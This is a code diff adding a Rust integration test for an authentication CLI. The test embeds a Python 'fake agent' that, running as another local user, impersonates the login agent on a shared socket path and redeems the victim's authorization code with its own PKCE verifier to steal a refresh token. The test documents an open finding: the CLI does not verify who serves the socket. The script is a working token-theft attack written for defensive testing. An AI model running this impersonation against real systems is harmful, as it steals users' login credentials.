@@ -550,6 +550,111 @@ async fn idle_connections_from_another_uid_do_not_hold_back_the_browsers_redirec
     assert_eq!(alice_subs(&h).await, vec![SUB.to_string()]);
 }
 
+/// Another uid's fake agent on a socket path the person's CLI is pointed at (argv[1]): it
+/// answers `POST /v1/login` with an authorization URL of its own making (the real provider at
+/// argv[2], its own PKCE challenge, the CLI's loopback), redeems the code the CLI relays with its
+/// own verifier, and prints whether it got a refresh token, and whose.
+const FAKE_AGENT: &str = r#"
+import ssl, hashlib, base64, secrets, urllib.request, urllib.parse
+path, issuer = sys.argv[1], sys.argv[2]
+ctx = ssl._create_unverified_context()
+srv = socket.socket(socket.AF_UNIX)
+srv.bind(path)
+os.chmod(path, 0o777)
+srv.listen(4)
+print("listening", flush=True)
+verifier = secrets.token_urlsafe(32)
+challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
+state = secrets.token_urlsafe(16)
+redirect = None
+def serve_one():
+    c, _ = srv.accept()
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = c.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    lines = head.decode().split("\r\n")
+    method, target = lines[0].split(" ")[:2]
+    length = 0
+    for l in lines[1:]:
+        k, _, v = l.partition(":")
+        if k.strip().lower() == "content-length":
+            length = int(v)
+    while len(body) < length:
+        body += c.recv(65536)
+    return c, method, target, (json.loads(body) if body else None)
+def reply(c, obj):
+    b = json.dumps(obj).encode()
+    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(b) + b)
+    c.close()
+while True:
+    c, method, target, body = serve_one()
+    if method == "POST" and target == "/v1/login":
+        redirect = "http://127.0.0.1:%d/callback" % body["redirect_port"]
+        q = urllib.parse.urlencode({"client_id": "cortexid-login", "response_type": "code",
+            "redirect_uri": redirect, "scope": "openid email groups offline_access", "state": state,
+            "nonce": "n", "code_challenge": challenge, "code_challenge_method": "S256", "prompt": "consent"})
+        reply(c, {"login_id": "fake", "login": "corp", "flow": "browser", "authorization_url": issuer + "/authorize?" + q,
+            "redirect_uri": redirect, "expires_in": 600})
+    elif method == "POST" and target == "/v1/login/fake/callback":
+        form = urllib.parse.urlencode({"grant_type": "authorization_code", "code": body["code"],
+            "redirect_uri": redirect, "code_verifier": verifier, "client_id": "cortexid-login"}).encode()
+        try:
+            stolen = json.loads(urllib.request.urlopen(issuer + "/token", data=form, context=ctx).read())
+        except Exception as e:
+            stolen = {"error": str(e)}
+        reply(c, {"status": "complete", "session": {"login": "corp", "sub": "alice-smith", "flow": "browser", "claims": {}}})
+        break
+    else:
+        reply(c, {})
+sub = None
+if "id_token" in stolen:
+    sub = json.loads(base64.urlsafe_b64decode(stolen["id_token"].split(".")[1] + "==")).get("sub")
+print(json.dumps({"refresh_token": "refresh_token" in stolen, "sub": sub}), flush=True)
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "finding: the CLI does not check who serves the socket; another uid's fake agent on a socket path in a shared directory gets the person's browser code and redeems it with its own verifier (the person's refresh token)"]
+async fn a_fake_agent_on_the_socket_path_gets_no_code_from_the_cli() {
+    let h = people().await;
+    // A socket path in a directory every user can write (like /tmp), the agent not there.
+    let shared = h.dir.path().join("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let fake_socket = shared.join("agent.sock");
+    let mut fake = python_as(
+        MALLORY_UID,
+        FAKE_AGENT,
+        &[fake_socket.to_str().unwrap(), h.idp.issuer()],
+    );
+    let mut said = BufReader::new(fake.stdout.take().unwrap()).lines();
+    assert_eq!(said.next_line().await.unwrap().as_deref(), Some("listening"));
+
+    let mut alice = cli_as(ALICE_UID, &fake_socket, &["login", "--browser", "--no-browser"], &[]);
+    let mut lines = BufReader::new(alice.stdout.take().unwrap()).lines();
+    while let Some(line) = lines.next_line().await.unwrap() {
+        if line.trim_start().starts_with("https://") {
+            // The page is the real provider's: Alice signs in, her browser returns to her CLI.
+            let back = h.idp.approve_authorization(line.trim(), PERSON, &["payments"]).unwrap();
+            let _ = reqwest::get(&back).await;
+        }
+    }
+    let _ = tokio::time::timeout(Duration::from_secs(30), alice.wait()).await;
+    let _ = fake.start_kill();
+    let outcome = tokio::time::timeout(Duration::from_secs(30), said.next_line())
+        .await
+        .ok()
+        .and_then(|l| l.ok().flatten())
+        .unwrap_or_default();
+    assert!(
+        !outcome.contains("\"refresh_token\": true"),
+        "uid {MALLORY_UID}'s fake agent redeemed the person's code: {outcome}"
+    );
+}
+
 /// As another uid: holds 127.0.0.1:argv[1] open and says so, then waits.
 const HOLD_PORT: &str = r#"
 import time
